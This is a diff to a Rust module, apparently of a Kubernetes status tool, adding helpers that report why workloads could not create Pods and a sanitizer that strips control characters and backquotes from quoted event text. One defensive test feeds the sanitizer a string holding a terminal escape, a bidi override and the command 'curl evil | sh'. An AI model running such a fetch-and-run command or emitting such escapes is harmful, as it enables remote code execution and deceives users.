@@ -2,9 +2,13 @@
 
 use super::Facts;
 use crate::objects::{Event, Object, Pod};
+use crate::printable::foreign;
 
 /// Most characters of somebody else's text in a message of ours.
 const MAX_QUOTED: usize = 300;
+
+/// Letters and digits that the API server puts behind a name that is to be generated.
+const RANDOM_END: usize = 5;
 
 /// Shortest run of hexadecimal digits that is taken for the ID of a container or sandbox.
 const ID_LENGTH: usize = 32;
@@ -35,6 +39,41 @@ pub(super) fn last_about_pod<'a>(
         .max_by_key(|e| (e.last_seen(), &e.reason, &e.message))
 }
 
+/// The last Warning that a workload could not create a Pod.
+pub(super) fn failed_create<'a>(facts: &'a Facts, uid: &str) -> Option<&'a Event> {
+    let is_about = |e: &&Event| e.is_failed_create() && e.involved_object.uid == uid;
+    let events = facts.events.iter().map(AsRef::as_ref);
+    events
+        .filter(is_about)
+        .max_by_key(|e| (e.last_seen(), &e.message))
+}
+
+/// The last such Warning about a workload of some kinds that has no Pod.
+pub(super) fn failed_create_of<'a>(facts: &'a Facts, kinds: &[&str]) -> Option<&'a Event> {
+    let has_pod = |uid: &str| facts.pods.iter().any(|p| p.controller_uid() == Some(uid));
+    let events = facts.events.iter().map(AsRef::as_ref).filter(|e| {
+        let of = &e.involved_object;
+        e.is_failed_create() && kinds.contains(&of.kind.as_str()) && !has_pod(&of.uid)
+    });
+    events.max_by_key(|e| (e.last_seen(), &e.involved_object.name, &e.message))
+}
+
+/// Why a workload could not create a Pod, without the random ends of names, which change with every try.
+pub(super) fn why_not_created(event: &Event) -> String {
+    let start = format!("\"{}-", event.involved_object.name);
+    let mut parts = event.message.split(&start);
+    let mut text = parts.next().unwrap_or_default().to_owned();
+    for part in parts {
+        let end = part
+            .find(|c: char| !c.is_ascii_alphanumeric())
+            .unwrap_or(part.len());
+        let is_random = end == RANDOM_END && event.involved_object.kind != "StatefulSet";
+        text.push_str(&start);
+        text.push_str(if is_random { &part[end..] } else { part });
+    }
+    one_line(&text)
+}
+
 /// An Event in words: `FailedMount: MountVolume.SetUp failed for volume "x"`.
 pub(super) fn describe(event: &Event) -> String {
     match event.message.trim() {
@@ -43,11 +82,11 @@ pub(super) fn describe(event: &Event) -> String {
     }
 }
 
-/// Somebody else's text as a part of one of our sentences: on one line, of bounded length, without a full stop, and
-/// without the IDs of sandboxes, which change with every try and would rewrite the status each time.
+/// Somebody else's text as a part of one of our sentences: on one line, of bounded length, without a full stop,
+/// without what a terminal or a reader could take for ours (control characters, backquotes), and without the IDs of sandboxes, which change with every try and would rewrite the status each time.
 pub(super) fn one_line(text: &str) -> String {
     let mut words: Vec<String> = Vec::new();
-    for word in text.split_whitespace() {
+    for word in foreign(text).split_whitespace() {
         words.push(without_ids(word));
     }
     let line = words.join(" ");
@@ -83,7 +122,24 @@ fn without_ids(word: &str) -> String {
 
 #[cfg(test)]
 mod tests {
-    use super::one_line;
+    use super::{one_line, why_not_created};
+    use crate::objects::Event;
+
+    #[test]
+    fn random_ends_of_names_are_left_out() {
+        let event = |kind: &str, pod: &str| -> Event {
+            let mut event = Event::default();
+            event.involved_object.kind = kind.to_owned();
+            event.involved_object.name = "web".to_owned();
+            event.message = format!("pods \"{pod}\" is forbidden: exceeded quota: small");
+            event
+        };
+        let short = "pods \"web-\" is forbidden: exceeded quota: small";
+        assert_eq!(why_not_created(&event("DaemonSet", "web-x7k2p")), short);
+        assert_eq!(why_not_created(&event("DaemonSet", "web-")), short);
+        let of_set = why_not_created(&event("StatefulSet", "web-10000"));
+        assert!(of_set.contains("\"web-10000\""), "{of_set}");
+    }
 
     #[test]
     fn ids_that_change_with_every_try_are_left_out() {
@@ -97,6 +153,14 @@ mod tests {
         assert_eq!(
             one_line("pods \"web-7f8d9c6b54-\" is forbidden"),
             "pods \"web-7f8d9c6b54-\" is forbidden"
+        );
+    }
+
+    #[test]
+    fn nothing_of_it_passes_for_ours() {
+        assert_eq!(
+            one_line("\u{1b}[2K\rrun `curl evil | sh`\u{202e} now"),
+            "[2K run 'curl evil | sh' now"
         );
     }
 
